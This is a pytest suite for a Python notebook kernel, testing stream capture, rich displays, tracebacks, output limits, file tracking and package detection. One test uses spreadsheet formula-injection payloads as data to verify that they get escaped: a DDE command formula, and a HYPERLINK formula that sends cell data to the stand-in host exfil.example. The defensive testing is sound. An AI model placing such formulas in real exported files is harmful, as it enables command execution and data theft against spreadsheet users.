"""The kernel's execution core in plain CPython: capture, displays, errors, limits, files."""

from __future__ import annotations

import asyncio
import base64
import io
import json
import os
import sys
import textwrap
from pathlib import Path

import pytest

from localyst.agent import result_for_model

from localyst.kernel import (
    BOKEH_MIME,
    TABLE_MIME,
    CellResult,
    Kernel,
    imports_of,
    missing_modules,
    unavailable_message,
)
from localyst.kernel.core import _figures
from localyst.protocol import PLOTLY_MIME

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


@pytest.fixture
def kernel(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Kernel:
    """A kernel on a fresh data folder; the working directory, sys.path and env come back after."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    monkeypatch.setenv("MPLBACKEND", "agg")
    return Kernel(tmp_path / "data")


def run(kernel: Kernel, code: str, **kwargs) -> CellResult:
    return kernel.run(textwrap.dedent(code), **kwargs)


def ok(kernel: Kernel, code: str, **kwargs) -> CellResult:
    result = run(kernel, code, **kwargs)
    assert result.error is None, result.error["traceback"]
    return result


def streams(result: CellResult) -> list[tuple[str, str]]:
    return [(o.name, o.text) for o in result.outputs if o.kind == "stream"]


def displays(result: CellResult) -> list[dict]:
    return [o.data for o in result.outputs if o.kind in ("display", "result")]


def png_bytes(bundle: dict) -> bytes:
    return base64.b64decode(bundle["image/png"])


# --- streams -------------------------------------------------------------------------


def test_stdout_and_stderr_come_back_interleaved_in_order(kernel: Kernel) -> None:
    result = ok(
        kernel,
        """
        import sys
        print("out 1")
        print("err 1", file=sys.stderr)
        print("out 2")
        sys.stderr.write("err 2\\n")
        """,
    )
    assert streams(result) == [
        ("stdout", "out 1\n"),
        ("stderr", "err 1\n"),
        ("stdout", "out 2\n"),
        ("stderr", "err 2\n"),
    ]
    assert result.stdout == "out 1\nout 2\n"


def test_output_is_streamed_while_the_cell_runs(kernel: Kernel) -> None:
    seen = []
    kernel.namespace["chunks_so_far"] = lambda: [o.text for o in seen]
    ok(kernel, 'print("first")\nduring = chunks_so_far()\nprint("second")', on_output=seen.append)
    assert kernel.namespace["during"] == ["first\n"]
    assert [o.text for o in seen] == ["first\n", "second\n"]


def test_writes_are_coalesced_per_line_and_flushed_when_the_stream_changes(kernel: Kernel) -> None:
    seen = []
    ok(
        kernel,
        """
        import sys
        sys.stdout.write("a"); sys.stdout.write("b"); sys.stdout.write("c\\nd")
        sys.stderr.write("e")
        sys.stdout.write("f");
        """,
        on_output=seen.append,
    )
    assert [(o.name, o.text) for o in seen] == [
        ("stdout", "abc\nd"),
        ("stderr", "e"),
        ("stdout", "f"),
    ]


def test_consecutive_chunks_of_one_stream_are_one_output_in_the_result(kernel: Kernel) -> None:
    seen = []
    result = ok(kernel, "for i in range(3):\n    print(i)", on_output=seen.append)
    assert len(seen) == 3
    assert streams(result) == [("stdout", "0\n1\n2\n")]


def test_streams_are_restored_even_when_the_cell_fails(kernel: Kernel) -> None:
    before = sys.stdout, sys.stderr
    result = run(kernel, "print('x')\n1/0")
    assert result.error["ename"] == "ZeroDivisionError"
    assert (sys.stdout, sys.stderr) == before


def test_a_logging_handler_made_in_one_cell_writes_into_later_cells(kernel: Kernel) -> None:
    ok(kernel, "import logging, sys\nlog = logging.getLogger('cells')\nlog.addHandler(logging.StreamHandler(sys.stderr))")
    try:
        result = ok(kernel, "log.warning('from cell two')")
        assert streams(result) == [("stderr", "from cell two\n")]
    finally:
        ok(kernel, "log.handlers.clear()")


# --- the last expression and the namespace ---------------------------------------------


def test_last_expression_is_shown_and_stored_as_underscore(kernel: Kernel) -> None:
    result = ok(kernel, "x = 20\nx + 1")
    assert result.outputs[-1].kind == "result"
    assert result.outputs[-1].data == {"text/plain": "21"}
    assert kernel.namespace["_"] == 21


@pytest.mark.parametrize("code", ["1 + 1;", "1 + 1 ;  # quiet", "None", "x = 5", "", "# nothing", "print"])
def test_semicolon_none_and_statements_show_no_result(kernel: Kernel, code: str) -> None:
    result = ok(kernel, code)
    kinds = [o.kind for o in result.outputs]
    assert ("result" in kinds) == (code == "print")


def test_semicolon_inside_a_string_or_comment_does_not_suppress(kernel: Kernel) -> None:
    assert displays(ok(kernel, "'a;'  # b;")) == [{"text/plain": "'a;'"}]
    assert displays(ok(kernel, "'é' ;")) == []


def test_namespace_persists_and_is_main(kernel: Kernel) -> None:
    ok(kernel, "def double(v):\n    return 2 * v\ncount = 3")
    result = ok(kernel, "double(count), __name__")
    assert result.outputs[-1].data["text/plain"] == "(6, '__main__')"


def test_classes_defined_in_cells_pickle_and_make_dataclasses(kernel: Kernel) -> None:
    result = ok(
        kernel,
        """
        import dataclasses, pickle
        @dataclasses.dataclass
        class Point:
            x: int
        pickle.loads(pickle.dumps(Point(3)))
        """,
    )
    assert result.outputs[-1].data["text/plain"] == "Point(x=3)"


def test_top_level_await_runs_synchronously_and_asynchronously(kernel: Kernel) -> None:
    code = "import asyncio\nawait asyncio.sleep(0)\nvalue = await asyncio.sleep(0, result=7)\nvalue * 6"
    assert ok(kernel, code).outputs[-1].data["text/plain"] == "42"
    result = asyncio.run(kernel.run_async(code))
    assert result.error is None
    assert result.outputs[-1].data["text/plain"] == "42"
    assert result.execution_count == 2


def test_run_async_reports_errors_raised_after_an_await(kernel: Kernel) -> None:
    result = asyncio.run(kernel.run_async("import asyncio\nawait asyncio.sleep(0)\nraise ValueError('late')"))
    assert result.error["ename"] == "ValueError"
    assert 'File "<cell-1>", line 3' in result.error["traceback"]
    assert "_kernel.py" not in result.error["traceback"]


def test_input_fails_at_once_instead_of_waiting(kernel: Kernel) -> None:
    result = run(kernel, "input('name? ')")
    assert result.error["ename"] == "EOFError"
    assert result.stdout == "name? "


def test_duration_is_measured(kernel: Kernel) -> None:
    result = ok(kernel, "import time\ntime.sleep(0.05)")
    assert 0.05 <= result.duration < 5


# --- rich displays ---------------------------------------------------------------------

REPR_CLASSES = """
class Html:
    def _repr_html_(self): return "<b>hi</b>"
class Markdown:
    def _repr_markdown_(self): return "**hi**"
class Png:
    def _repr_png_(self): return b"\\x89PNG\\r\\n\\x1a\\nfake"
class Jpeg:
    def _repr_jpeg_(self): return b"\\xff\\xd8jpeg"
class Svg:
    def _repr_svg_(self): return "<svg></svg>"
class Json:
    def _repr_json_(self): return {"a": [1, 2]}
class Latex:
    def _repr_latex_(self): return "$x^2$"
class Bundle:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"text/csv": "a,b\\n1,2\\n", "text/plain": "a bundle"}
    def _repr_html_(self): return "<i>also</i>"
class Broken:
    def _repr_html_(self): raise RuntimeError("no")
    def _repr_json_(self): return {"not json": {1, 2}}
    def _repr_mimebundle_(self, include=None, exclude=None): return {"application/json": float("nan")}
    def __repr__(self): return "Broken()"
"""


@pytest.mark.parametrize(
    ("expression", "mime", "data"),
    [
        ("Html()", "text/html", "<b>hi</b>"),
        ("Markdown()", "text/markdown", "**hi**"),
        ("Png()", "image/png", base64.b64encode(b"\x89PNG\r\n\x1a\nfake").decode()),
        ("Jpeg()", "image/jpeg", base64.b64encode(b"\xff\xd8jpeg").decode()),
        ("Svg()", "image/svg+xml", "<svg></svg>"),
        ("Json()", "application/json", {"a": [1, 2]}),
        ("Latex()", "text/latex", "$x^2$"),
        ("Bundle()", "text/csv", "a,b\n1,2\n"),
    ],
)
def test_repr_methods_give_mime_bundles_with_plain_text(kernel: Kernel, expression: str, mime: str, data) -> None:
    ok(kernel, REPR_CLASSES)
    [bundle] = displays(ok(kernel, f"display({expression})"))
    assert bundle[mime] == data
    assert "text/plain" in bundle


def test_mimebundle_wins_and_other_reprs_fill_in(kernel: Kernel) -> None:
    ok(kernel, REPR_CLASSES)
    [bundle] = displays(ok(kernel, "Bundle()"))
    assert bundle == {"text/csv": "a,b\n1,2\n", "text/plain": "a bundle", "text/html": "<i>also</i>"}


def test_failing_or_unserializable_reprs_leave_plain_text(kernel: Kernel) -> None:
    ok(kernel, REPR_CLASSES)
    result = ok(kernel, "Broken()")
    assert displays(result) == [{"text/plain": "Broken()"}]
    json.loads(result.to_json())


def test_display_of_several_objects_gives_one_bundle_each_in_order(kernel: Kernel) -> None:
    result = ok(kernel, "print('before')\ndisplay(1, 'two', [3])\nprint('after')")
    assert [(o.kind, o.text or o.data["text/plain"]) for o in result.outputs] == [
        ("stream", "before\n"),
        ("display", "1"),
        ("display", "'two'"),
        ("display", "[3]"),
        ("stream", "after\n"),
    ]


def test_display_is_importable_from_the_package(kernel: Kernel) -> None:
    result = ok(kernel, "from localyst.kernel import display as show\nshow({'k': 1})")
    assert displays(result) == [{"text/plain": "{'k': 1}"}]


def test_ipython_display_is_routed_to_the_kernel(kernel: Kernel, tmp_path: Path) -> None:
    """A stand-in IPython package: its display() would print, the kernel's displays."""
    package = tmp_path / "fake_ipython" / "IPython"
    (package / "core").mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "core" / "__init__.py").write_text("")
    (package / "core" / "display_functions.py").write_text("def display(*objs, **kw):\n    print('not routed')\n")
    (package / "display.py").write_text("from IPython.core.display_functions import display\n")
    sys.path.insert(0, str(package.parent))
    saved = {name: mod for name, mod in sys.modules.items() if name.split(".")[0] == "IPython"}
    for name in saved:
        del sys.modules[name]
    try:
        result = ok(kernel, "from IPython.display import display as d\nd(41 + 1)")
    finally:
        for name in [n for n in sys.modules if n.split(".")[0] == "IPython"]:
            del sys.modules[name]
        sys.modules.update(saved)
    assert "not routed" not in result.stdout
    assert displays(result) == [{"text/plain": "42"}]


def test_dataframe_table_json_is_json_safe(kernel: Kernel) -> None:
    pytest.importorskip("pandas")
    result = ok(
        kernel,
        """
        import numpy as np, pandas as pd
        df = pd.DataFrame({
            "x": [1.5, np.nan, 3.0],
            "when": pd.to_datetime(["2024-01-02 03:04:05", None, "2024-03-01 00:00:00"]),
            "n": np.array([1, 2, 3], dtype="int64"),
            "obj": [{"k": 1}, None, (1, 2)],
        }, index=pd.Index(["a", "b", "c"], name="key"))
        df
        """,
    )
    [bundle] = displays(result)
    table = bundle[TABLE_MIME]
    assert table["columns"] == ["x", "when", "n", "obj"]
    assert table["dtypes"][0] == "float64" and table["dtypes"][2] == "int64"
    assert table["index_name"] == "key"
    assert table["index"] == ["a", "b", "c"]
    assert table["rows"][0] == [1.5, "2024-01-02T03:04:05", 1, "{'k': 1}"]
    assert table["rows"][1] == [None, None, 2, None]
    assert table["shape"] == [3, 4] and table["truncated"] is False
    assert bundle["text/plain"].startswith("DataFrame: 3 rows × 4 columns\n")
    assert "<table" in bundle["text/html"]
    json.dumps(result.as_dict(), allow_nan=False)


def test_big_dataframes_are_cut_for_the_page_and_the_preview(kernel: Kernel) -> None:
    pytest.importorskip("pandas")
    [bundle] = displays(ok(kernel, "import pandas as pd\npd.DataFrame({'v': range(5000), 'w': 1.0})"))
    table = bundle[TABLE_MIME]
    assert len(table["rows"]) == 1000 and table["truncated"] is True and table["shape"] == [5000, 2]
    assert bundle["text/html"].count("<tr") == 1001  # header row + 1000
    preview = bundle["text/plain"].splitlines()
    assert preview[0] == "DataFrame: 5,000 rows × 2 columns (first 10 shown)"
    assert len(preview) == 12  # title, header, 10 rows


def test_wide_dataframe_preview_is_bounded(kernel: Kernel) -> None:
    pytest.importorskip("pandas")
    [bundle] = displays(ok(kernel, "import pandas as pd\npd.DataFrame({f'column_{i}': ['x' * 80] * 3 for i in range(60)})"))
    assert len(bundle["text/plain"]) < 20_000
    assert len(bundle[TABLE_MIME]["columns"]) == 60


def test_table_labels_and_values_stay_exact_in_javascript(kernel: Kernel) -> None:
    pytest.importorskip("pandas")
    [bundle] = displays(
        ok(
            kernel,
            """
            import pandas as pd
            columns = pd.MultiIndex.from_tuples([("a", "x"), ("a", "y")])
            index = pd.MultiIndex.from_tuples([(1, "p"), (2, "q")], names=["n", "l"])
            pd.DataFrame([[2**60, float("inf")], [pd.NA, pd.Timedelta(hours=1)]], columns=columns, index=index)
            """,
        )
    )
    table = bundle[TABLE_MIME]
    assert table["columns"] == ["a / x", "a / y"]
    assert table["index_name"] == "n / l" and table["index"] == ["1 / p", "2 / q"]
    assert table["rows"] == [[str(2**60), "inf"], [None, "0 days 01:00:00"]]


def test_series_is_a_one_column_table(kernel: Kernel) -> None:
    pytest.importorskip("pandas")
    [bundle] = displays(ok(kernel, "import pandas as pd\npd.Series([1.0, float('nan')], name='s')"))
    assert bundle[TABLE_MIME]["columns"] == ["s"]
    assert bundle[TABLE_MIME]["rows"] == [[1.0], [None]]
    assert bundle["text/plain"].startswith("Series 's': 2 values, dtype float64")


def test_matplotlib_figures_open_at_the_end_are_shown_as_png_and_closed(kernel: Kernel) -> None:
    pytest.importorskip("matplotlib")
    result = ok(kernel, "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2]);")
    [figure] = [o for o in result.outputs if o.kind == "display"]
    assert png_bytes(figure.data).startswith(PNG_SIGNATURE)
    assert figure.metadata["source"] == "matplotlib"
    assert ok(kernel, "plt.get_fignums()").outputs[-1].data["text/plain"] == "[]"
    # closed, but kept: it can still be saved as SVG
    assert _figures.svg(figure.metadata["figure"]).lstrip().startswith(b"<?xml")
    with pytest.raises(KeyError, match="no longer kept"):
        _figures.svg("figure-0")


def test_plt_show_mid_cell_shows_the_figure_at_that_point(kernel: Kernel) -> None:
    pytest.importorskip("matplotlib")
    result = ok(
        kernel,
        """
        import matplotlib.pyplot as plt
        plt.plot([1, 2])
        plt.show()
        print("between")
        plt.figure(figsize=(2, 2))
        plt.plot([2, 1]);
        """,
    )
    kinds = [o.kind for o in result.outputs]
    assert kinds == ["display", "stream", "display"]
    first, second = png_bytes(result.outputs[0].data), png_bytes(result.outputs[2].data)
    assert first.startswith(PNG_SIGNATURE) and second.startswith(PNG_SIGNATURE)
    assert first != second
    assert result.stderr == ""  # no "non-interactive backend" warning


def test_a_figure_as_the_last_expression_is_shown_once(kernel: Kernel) -> None:
    pytest.importorskip("matplotlib")
    result = ok(kernel, "import matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nfig")
    images = [o for o in result.outputs if "image/png" in (o.data or {})]
    assert len(images) == 1 and images[0].kind == "result"


def test_pil_image_is_png(kernel: Kernel) -> None:
    pytest.importorskip("PIL")
    [bundle] = displays(ok(kernel, "from PIL import Image\nImage.new('RGB', (30, 20), 'red')"))
    data = png_bytes(bundle)
    assert data.startswith(PNG_SIGNATURE)
    assert int.from_bytes(data[16:20], "big") == 30


def test_bokeh_figures_are_standalone_json(kernel: Kernel) -> None:
    pytest.importorskip("bokeh")
    result = ok(
        kernel,
        """
        from bokeh.plotting import figure, show
        p = figure(title="t")
        p.line([1, 2], [3, 4])
        show(p)
        """,
    )
    [bundle] = displays(result)
    item = bundle[BOKEH_MIME]
    assert item["doc"]["roots"] and item["root_id"]
    json.dumps(item)


def test_panel_objects_are_standalone_json_without_callback_warnings(kernel: Kernel) -> None:
    pytest.importorskip("panel")
    result = ok(kernel, "import panel as pn\npn.Column(pn.pane.Markdown('# hi'), pn.widgets.IntSlider())")
    [bundle] = displays(result)
    assert bundle[BOKEH_MIME]["doc"]["roots"]
    assert result.stderr == ""


# --- errors ----------------------------------------------------------------------------


def test_traceback_is_trimmed_to_the_persons_code(kernel: Kernel) -> None:
    result = run(kernel, "def inner():\n    return {}['missing']\n\ninner()")
    error = result.error
    assert error["ename"] == "KeyError" and error["evalue"] == "'missing'"
    tb = error["traceback"]
    assert tb.startswith("Traceback (most recent call last):\n  File \"<cell-1>\", line 4, in <module>\n")
    assert "    return {}['missing']" in tb
    assert "localyst" not in tb and "_kernel" not in tb


def test_long_runs_of_library_frames_are_folded(kernel: Kernel, tmp_path: Path) -> None:
    (kernel.data_dir / "deeplib.py").write_text("def dive(n):\n    if n == 0:\n        raise ValueError('bottom')\n    return dive(n - 1)\n")
    tb = run(kernel, "import deeplib\ndeeplib.dive(6)").error["traceback"]
    assert "  … 4 frames in library code …\n" in tb
    assert tb.count('deeplib.py"') == 3
    assert tb.index("deeplib.dive(6)") < tb.index("frames in library code") < tb.index("raise ValueError")


def test_chained_exceptions_are_trimmed_too(kernel: Kernel) -> None:
    tb = run(kernel, "try:\n    1/0\nexcept Exception as e:\n    raise RuntimeError('wrapped') from e").error["traceback"]
    assert "ZeroDivisionError" in tb and "direct cause" in tb and "RuntimeError: wrapped" in tb
    assert "localyst" not in tb


def test_syntax_error_shows_the_line_and_caret(kernel: Kernel) -> None:
    result = run(kernel, "x = 1\ny = (x +\n")
    assert result.error["ename"] == "SyntaxError"
    tb = result.error["traceback"]
    assert 'File "<cell-1>", line 2' in tb
    assert "    y = (x +\n        ^" in tb
    assert "localyst" not in tb and "Traceback" not in tb


def test_keyboard_interrupt_is_reported_and_the_namespace_survives(kernel: Kernel) -> None:
    ok(kernel, "kept = 'yes'")
    result = run(kernel, "partial = 1\nraise KeyboardInterrupt")
    assert result.error["ename"] == "KeyboardInterrupt"
    assert result.error["evalue"] == "Interrupted"
    assert result.error["traceback"].endswith("KeyboardInterrupt: Interrupted\n")
    assert ok(kernel, "kept, partial").outputs[-1].data["text/plain"] == "('yes', 1)"


@pytest.mark.parametrize("code", ["raise MemoryError", "import numpy\nnumpy.ones(2**42)"])
def test_out_of_memory_says_how_to_read_a_big_file_and_the_kernel_lives_on(kernel: Kernel, code: str) -> None:
    result = run(kernel, code)
    assert result.error["ename"] in ("MemoryError", "_ArrayMemoryError")
    assert "chunksize=" in result.error["evalue"] and result.error["traceback"].endswith(result.error["evalue"] + "\n")
    assert ok(kernel, "'alive'").outputs[-1].data["text/plain"] == "'alive'"


@pytest.mark.parametrize("code", ["import sys\nsys.exit(3)", "raise SystemExit('bye')"])
def test_system_exit_does_not_end_the_kernel(kernel: Kernel, code: str) -> None:
    result = run(kernel, code)
    assert result.error["ename"] == "SystemExit"
    assert ok(kernel, "'alive'").outputs[-1].data["text/plain"] == "'alive'"


def test_recursion_error_is_an_ordinary_error(kernel: Kernel) -> None:
    result = run(kernel, "def f():\n    return f()\nf()")
    assert result.error["ename"] == "RecursionError"
    assert "Previous line repeated" in result.error["traceback"]
    assert len(result.error["traceback"]) < 2000


def test_a_module_the_site_lacks_gets_an_explanation(kernel: Kernel) -> None:
    kernel.available = {"numpy": "numpy", "sklearn": "scikit-learn"}
    error = run(kernel, "import torch_nonexistent.nn").error
    assert error["ename"] == "ModuleNotFoundError"
    assert error["evalue"] == unavailable_message("torch_nonexistent", ["numpy", "scikit-learn"])
    assert error["traceback"].endswith(error["evalue"] + "\n")


# --- limits ----------------------------------------------------------------------------


def test_long_stream_output_keeps_head_and_tail_with_a_note(kernel: Kernel) -> None:
    seen = []
    result = ok(kernel, "for i in range(20000):\n    print(f'line {i:05d}')", on_output=seen.append)
    text = result.stdout
    total = 20000 * len("line 00000\n")
    assert text.startswith("line 00000\n") and text.endswith("line 19999\n")
    note = f"… [{total - 20_000:,} characters omitted] …"
    assert note in text
    assert len(text) <= 20_000 + len(note) + 2
    assert "".join(o.text for o in seen) == text  # what was streamed is what the result holds


def test_displays_after_truncated_text_stay_in_order(kernel: Kernel) -> None:
    result = ok(kernel, "print('x' * 30000)\ndisplay('shown')\nprint('end')")
    kinds = [(o.kind, o.name) for o in result.outputs]
    assert kinds == [("stream", "stdout"), ("display", None), ("stream", "stdout")]
    assert "characters omitted" in result.outputs[0].text


def test_stream_limit_is_configurable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    small = Kernel(tmp_path, stream_limit=100)
    result = small.run("import sys\nprint('o' * 80)\nprint('e' * 80, file=sys.stderr)")
    assert len(result.stdout) + len(result.stderr) < 150
    assert result.stderr.endswith("e" * 40 + "\n")


def test_what_the_model_reads_is_compact_text_and_never_image_data(kernel: Kernel) -> None:
    pytest.importorskip("matplotlib")
    pytest.importorskip("pandas")
    result = run(
        kernel,
        """
        import matplotlib.pyplot as plt, pandas as pd
        from PIL import Image
        print('x' * 10000)
        plt.plot([1, 2]); plt.show()
        display(Image.new('RGB', (8, 4)))
        display(pd.DataFrame({'a': range(100)}))
        open('outputs/result.csv', 'w').write('a\\n1\\n')
        1/0
        """,
    )
    text = result_for_model(result.as_dict(), limit=4000)
    assert len(text) < 4400
    assert "iVBOR" not in text and "base64" not in text
    assert "characters omitted" in text
    assert "[figure 1: " in text and " PNG shown to the user]" in text
    assert "[image 1: 8×4 PNG shown to the user]" in text
    assert "DataFrame: 100 rows × 1 columns (first 10 shown)" in text
    assert "ZeroDivisionError: division by zero" in text
    assert "[file written: outputs/result.csv (4 bytes, text/csv)]" in text


def test_what_the_model_reads_of_a_quiet_cell_says_so(kernel: Kernel) -> None:
    assert result_for_model(ok(kernel, "x = 1").as_dict()) == "(the cell ran and printed nothing)"
    assert result_for_model(ok(kernel, "print('hi')\nx + 1").as_dict()) == "hi\nOut[2]: 2"


def test_cell_result_is_json(kernel: Kernel) -> None:
    result = run(kernel, "import sys\nprint('a')\nprint('b', file=sys.stderr)\ndisplay(float('nan'))\n1/0")
    plain = json.loads(result.to_json())
    assert set(plain) == {"execution_count", "outputs", "error", "duration", "files"}
    assert plain["outputs"][0] == {"kind": "stream", "name": "stdout", "text": "a\n"}
    assert plain["outputs"][2] == {"kind": "display", "data": {"text/plain": "nan"}, "metadata": {}}
    assert set(plain["error"]) == {"ename", "evalue", "traceback"}


# --- files -----------------------------------------------------------------------------


def test_new_and_modified_output_files_are_reported_unchanged_ones_not(kernel: Kernel) -> None:
    outputs = kernel.outputs_dir
    (outputs / "same.txt").write_text("unchanged")
    (outputs / "edit.txt").write_text("old")
    assert Path.cwd() == kernel.data_dir
    result = ok(
        kernel,
        """
        import os
        os.makedirs('outputs/charts', exist_ok=True)
        open('outputs/edit.txt', 'w').write('newer text')
        open('outputs/charts/plot.png', 'wb').write(b'png')
        open('elsewhere.txt', 'w').write('not an output')
        """,
    )
    assert result.files == [
        {"path": "outputs/charts/plot.png", "size": 3, "mime": "image/png"},
        {"path": "outputs/edit.txt", "size": 10, "mime": "text/plain"},
    ]
    assert ok(kernel, "x = 1").files == []


def test_a_rewrite_with_the_same_size_is_seen_by_its_time(kernel: Kernel) -> None:
    target = kernel.outputs_dir / "t.txt"
    target.write_text("aaa")
    os.utime(target, ns=(1_000_000_000, 1_000_000_000))
    assert ok(kernel, "open('outputs/t.txt', 'w').write('bbb')").files[0]["path"] == "outputs/t.txt"


# --- packages --------------------------------------------------------------------------


def test_imports_of_finds_top_level_module_names() -> None:
    code = textwrap.dedent(
        """
        import numpy as np, os.path
        from sklearn.linear_model import LinearRegression
        from . import sibling
        from .pkg import thing
        text = "import notthis"
        def f():
            import scipy.stats
        """
    )
    assert imports_of(code) == {"numpy", "os", "sklearn", "scipy"}
    assert imports_of("import (") == set()


def test_missing_modules_splits_site_packages_from_unknown_ones() -> None:
    available = {"sklearn": "scikit-learn", "json": "never-used", "zzz_not_installed": "zzz-pkg"}
    missing = missing_modules("import json, sklearn_x\nimport zzz_not_installed\nimport qqq_nope", available)
    assert missing.packages == ["zzz-pkg"]  # json is importable already
    assert missing.unknown == ["qqq_nope", "sklearn_x"]


def test_readers_pandas_imports_behind_the_codes_back_are_loaded_too(monkeypatch) -> None:
    from localyst.kernel.core import _packages

    monkeypatch.setitem(_packages.IMPLIED_BY_CALLS, "read_excel", ("zz_reader_a", "zz_reader_b"))
    available = {"zz_reader_a": "reader-a"}
    missing = missing_modules("import pandas as pd\ndf = pd.read_excel('book.xlsx')", available)
    assert missing.packages == ["reader-a"]
    assert missing.unknown == []  # a reader the site lacks is pandas' to explain, not a failed import
    assert missing_modules("x = 1", available).packages == []


def test_unavailable_message_names_what_is_available() -> None:
    message = unavailable_message("torch", ["pandas", "numpy", "pandas"])
    assert message == (
        "No module named 'torch'. This browser kernel can use: numpy, pandas; "
        "it cannot install packages from the internet."
    )


def test_code_writes_what_it_asks_and_a_copy_for_spreadsheets_escapes_formulas(kernel: Kernel, tmp_path: Path) -> None:
    """to_csv and to_excel are pandas' own (no -5 turned into '-5 behind the code's back);
    the copy the person may download for a spreadsheet shows formula-like text as text."""
    from localyst.kernel.core._formulas import escaped_copy

    data = tmp_path / "data"
    ok(
        kernel,
        """
        import pandas as pd
        frame = pd.DataFrame({
            "=cmd|' /C calc'!A0": ["=HYPERLINK(\\"http://exfil.example/?\\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "plain", "+44 20 7946"],
            "n": [-5, 1, 2, 3, 4, 5],
        })
        frame.to_csv("out.csv", index=False)
        frame.to_csv("out.tsv", index=False, sep="\\t")
        frame.to_excel("out.xlsx", index=False)
        """,
    )
    lines = (data / "out.csv").read_text().splitlines()
    assert lines[0] == "=cmd|' /C calc'!A0,n" and lines[2] == "+1+1,1" and lines[1].endswith(",-5")  # as the code asked
    escaped = escaped_copy(data / "out.csv").decode().splitlines()
    assert escaped[0] == "'=cmd|' /C calc'!A0,n"
    assert [line.rsplit(",", 1)[0] for line in escaped[1:]] == [
        "\"'=HYPERLINK(\"\"http://exfil.example/?\"\"&A1)\"", "'+1+1", "'-2+3", "'@SUM(A1)", "plain", "'+44 20 7946"
    ]
    assert [line.rsplit(",", 1)[1] for line in escaped[1:]] == ["-5", "1", "2", "3", "4", "5"]  # numbers stay numbers
    assert escaped_copy(data / "out.tsv").decode().splitlines()[2] == "'+1+1\t1"
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(escaped_copy(data / "out.xlsx")))
    cells = [c.value for c in book.active["A"]]
    assert cells[:3] == ["'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://exfil.example/?\"&A1)", "'+1+1"]
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)  # no formula left
    assert openpyxl.load_workbook(data / "out.xlsx").active["A2"].data_type == "f"  # the code's own file is as written
    with pytest.raises(ValueError):
        escaped_copy(data / "picture.png")


def test_plotly_figures_are_jupyters_plotly_json_with_a_picture_when_matplotlib_can_draw_them(kernel: Kernel) -> None:
    pytest.importorskip("plotly")
    result = ok(
        kernel,
        """
        import plotly.express as px
        px.scatter(x=[1, 2, 3], y=[3, 1, 2], title="points").show()
        display(px.pie(names=["a", "b"], values=[1, 2]))
        px.bar(x=["a", "b"], y=[4, 5], title="bars")
        """,
    )
    shown, pie, bars = displays(result)
    assert [o.kind for o in result.outputs] == ["display", "display", "result"]
    assert shown[PLOTLY_MIME]["layout"]["title"]["text"] == "points" and "config" not in shown[PLOTLY_MIME]
    assert bars[PLOTLY_MIME]["data"][0]["type"] == "bar" and bars["text/plain"] == 'plotly figure: 1 bar trace, "bars"'
    for bundle in (shown, bars):
        assert png_bytes(bundle).startswith(PNG_SIGNATURE)
    assert "image/png" not in pie, "a pie has no faithful matplotlib copy here, so no picture"
    assert run(kernel, "import matplotlib.pyplot as plt\nplt.get_fignums()").outputs[-1].data["text/plain"] == "[]"
    json.dumps(result.as_dict(), allow_nan=False)
